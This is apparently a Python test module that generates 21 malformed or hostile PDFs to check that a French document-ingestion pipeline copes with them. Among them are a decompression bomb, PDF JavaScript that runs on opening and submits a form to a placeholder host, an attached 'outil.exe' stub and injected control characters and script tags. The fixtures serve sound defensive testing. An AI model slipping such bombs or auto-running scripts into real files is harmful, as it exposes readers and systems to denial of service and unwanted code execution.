"""Malformed and hostile PDFs, written byte by byte, for the ingestion's robustness tests.

Run as a script to write them all into a folder: `python tests/hostile_pdfs.py DOSSIER`.
Each one is broken or hostile in one way (see HOSTILE); most carry a French sentence, so that
a file the pipeline can still read yields real text. None needs the network or a model.
"""

from __future__ import annotations

import sys
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pypdf

SENTENCE = "La gouvernance des données territoriales associe les communes et les habitants."
BOMB_BYTES = 1 << 28  # 256 MiB of spaces (pypdf stops at 75 MB), 250 kB once compressed
EMPTY_PAGES = 10_000
SLOW_PAGES = 400  # pages drawing the same long content stream
SLOW_OPERATORS = 200_000
NESTING = 50_000


def pdf_string(text: str) -> bytes:
    """A PDF literal string in WinAnsi (Latin-1) bytes, with its delimiters escaped."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("latin-1") + b")"


def text_content(text: str = SENTENCE) -> bytes:
    """A page content stream that shows `text` in 11-point Helvetica."""
    return b"BT /F1 11 Tf 72 760 Td " + pdf_string(text) + b" Tj ET"


def stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    """A stream object body with its /Length (Flate-compressed when asked)."""
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def assemble(objects: list[bytes], trailer: bytes = b"", xref_shift: int = 0) -> bytes:
    """A PDF file of numbered objects (1 = catalog) with a classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % (offset + xref_shift) for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % (xref + xref_shift))


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def one_page(content: bytes, catalog_extra: bytes = b"", page_extra: bytes = b"",
             font: bytes = FONT, extra_objects: tuple[bytes, ...] = ()) -> list[bytes]:
    """Objects of a one-page PDF: catalog, pages, page, content (4), font (5), then extras."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        content,
        font,
        *extra_objects,
    ]


def readable() -> bytes:
    """A well-formed one-page PDF with one French sentence (the base of several others)."""
    return assemble(one_page(stream(text_content())))


def encrypted() -> bytes:
    """The readable PDF, AES-256 encrypted with a user password."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(BytesIO(readable())))
    writer.encrypt(user_password="secret", owner_password="proprietaire", algorithm="AES-256")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated() -> bytes:
    """The first half of a readable PDF, as an interrupted download leaves it."""
    data = readable()
    return data[: len(data) // 2]


def broken_xref() -> bytes:
    """Every xref offset and startxref wrong by 7 bytes."""
    return assemble(one_page(stream(text_content())), xref_shift=7)


def startxref_past_end() -> bytes:
    """A startxref pointing far beyond the end of the file, and no xref table at all."""
    data = readable()
    return data[: data.index(b"xref\n")] + b"startxref\n999999999\n%%EOF\n"


def page_tree_loop() -> bytes:
    """A page tree whose /Kids contains the tree itself."""
    objects = one_page(stream(text_content()))
    objects[1] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return assemble(objects)


def self_referencing_length() -> bytes:
    """A content stream whose /Length is a reference to the stream object itself."""
    objects = one_page(b"")
    data = text_content()
    objects[3] = b"<< /Length 4 0 R >>\nstream\n" + data + b"\nendstream"
    return assemble(objects)


def recursive_xobject() -> bytes:
    """A form XObject that draws itself, forever."""
    form = stream(b"/Fm1 Do " + text_content(),
                  b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]"
                  b" /Resources << /XObject << /Fm1 6 0 R >> /Font << /F1 5 0 R >> >>")
    objects = one_page(stream(b"/Fm1 Do"), extra_objects=(form,))
    objects[2] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                  b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> >>")
    return assemble(objects)


def decompression_bomb() -> bytes:
    """A 250 kB content stream that inflates to 256 MiB."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 24)
    packed = b"".join(packer.compress(block) for _ in range(BOMB_BYTES // len(block)))
    packed += packer.flush()
    bomb = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed
    return assemble(one_page(bomb + b"\nendstream"))


def empty_pages() -> bytes:
    """Ten thousand blank pages sharing one empty content stream."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(EMPTY_PAGES))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % EMPTY_PAGES,
                     stream(b"")] + [page] * EMPTY_PAGES)


def huge_page() -> bytes:
    """A page 14 400 km wide (the PDF maximum is 5 m), with ordinary text on it."""
    objects = one_page(stream(text_content()))
    objects[2] = objects[2].replace(b"[0 0 595 842]", b"[0 0 4000000000 4000000000]")
    return assemble(objects)


def invalid_font() -> bytes:
    """A font with an unknown encoding, bad /Differences and a garbage /ToUnicode CMap."""
    font = (b"<< /Type /Font /Subtype /Type1 /BaseFont /NoSuchFont /Encoding "
            b"<< /BaseEncoding /NoSuchEncoding /Differences [-5 /foo 300 /bar 1e9] >> "
            b"/ToUnicode 6 0 R /FirstChar 500 /LastChar -3 /Widths 7 >>")
    cmap = stream(b"begincmap 1 beginbfchar <FFFFFFFFFFFF> <D800DFFFZZ> endbfchar "
                  b"2 beginbfrange <00> <FF> [<0041>] endbfrange endcmap")
    return assemble(one_page(stream(text_content()), font=font, extra_objects=(cmap,)))


def javascript_actions() -> bytes:
    """JavaScript run on opening and on page view (a PDF reader would run it; we never do)."""
    script = pdf_string("app.alert('intrusion'); this.submitForm('http://example.invalid/');")
    action = b"<< /S /JavaScript /JS " + script + b" >>"
    return assemble(one_page(
        stream(text_content()),
        catalog_extra=b"/OpenAction " + action + b" /Names << /JavaScript << /Names "
                      b"[(init) " + action + b"] >> >>",
        page_extra=b"/AA << /O " + action + b" >>",
    ))


def embedded_file() -> bytes:
    """An attached executable-looking file that must never be extracted or indexed."""
    payload = stream(b"MZ\x90\x00 charge utile cachee " * 100, b" /Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (outil.exe) /EF << /F 6 0 R >> >>"
    return assemble(one_page(
        stream(text_content()),
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(outil.exe) 7 0 R] >> >>",
        extra_objects=(payload, spec),
    ))


def deep_nesting() -> bytes:
    """A page dictionary holding an array nested fifty thousand levels deep."""
    objects = one_page(stream(text_content()))
    objects[2] = objects[2].replace(b">>", b"/Piege " + b"[" * NESTING + b"]" * NESTING + b" >>", 1)
    return assemble(objects)


def endless_operators() -> bytes:
    """Hundreds of pages that all draw the same long stream of tiny text operators."""
    operators = b"BT /F1 11 Tf 72 760 Td " + b"(a) Tj 0 -1 Td " * SLOW_OPERATORS + b"ET"
    content = stream(operators, compress=True)
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(SLOW_PAGES))
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> >>")
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % SLOW_PAGES,
                     content, FONT] + [page] * SLOW_PAGES)


def lying_page_count() -> bytes:
    """A page tree that claims a billion pages and holds one."""
    objects = one_page(stream(text_content()))
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"
    return assemble(objects)


def control_characters() -> bytes:
    """Text full of NUL, bidirectional overrides and escape sequences."""
    nasty = "\x00\x1b[31m\u202eédnom\u202c " + SENTENCE + " \x07\x08<script>alert(1)</script>"
    return assemble(one_page(stream(b"BT /F1 11 Tf 72 760 Td " + pdf_string(
        nasty.encode("latin-1", "replace").decode("latin-1")) + b" Tj ET")))


def not_a_pdf() -> bytes:
    """An HTML error page saved under a .pdf name, as a failed download leaves it."""
    return b"<!DOCTYPE html><html><body><h1>403 Forbidden</h1></body></html>\n"


def png_bytes() -> bytes:
    """The start of a PNG image under a .pdf name."""
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 4


def empty_file() -> bytes:
    """Zero bytes."""
    return b""


def header_only() -> bytes:
    """A PDF header and nothing else."""
    return b"%PDF-1.7\n"


HOSTILE: dict[str, Callable[[], bytes]] = {
    "chiffre-aes.pdf": encrypted,
    "tronque.pdf": truncated,
    "xref-decalee.pdf": broken_xref,
    "startxref-hors-fichier.pdf": startxref_past_end,
    "arbre-pages-en-boucle.pdf": page_tree_loop,
    "longueur-autoreferente.pdf": self_referencing_length,
    "xobject-recursif.pdf": recursive_xobject,
    "bombe-decompression.pdf": decompression_bomb,
    "dix-mille-pages-vides.pdf": empty_pages,
    "page-geante.pdf": huge_page,
    "police-invalide.pdf": invalid_font,
    "javascript.pdf": javascript_actions,
    "fichier-joint.pdf": embedded_file,
    "imbrication-profonde.pdf": deep_nesting,
    "operateurs-sans-fin.pdf": endless_operators,
    "nombre-de-pages-mensonger.pdf": lying_page_count,
    "caracteres-de-controle.pdf": control_characters,
    "page-html.pdf": not_a_pdf,
    "image-png.pdf": png_bytes,
    "vide.pdf": empty_file,
    "en-tete-seul.pdf": header_only,
}


def write_all(folder: Path) -> list[Path]:
    """Write every hostile PDF into `folder`; their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, make in HOSTILE.items():
        (folder / name).write_bytes(make())
        paths.append(folder / name)
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("Usage : python tests/hostile_pdfs.py DOSSIER")
    for path in write_all(Path(sys.argv[1])):
        print(f"{path} ({path.stat().st_size} octets)")
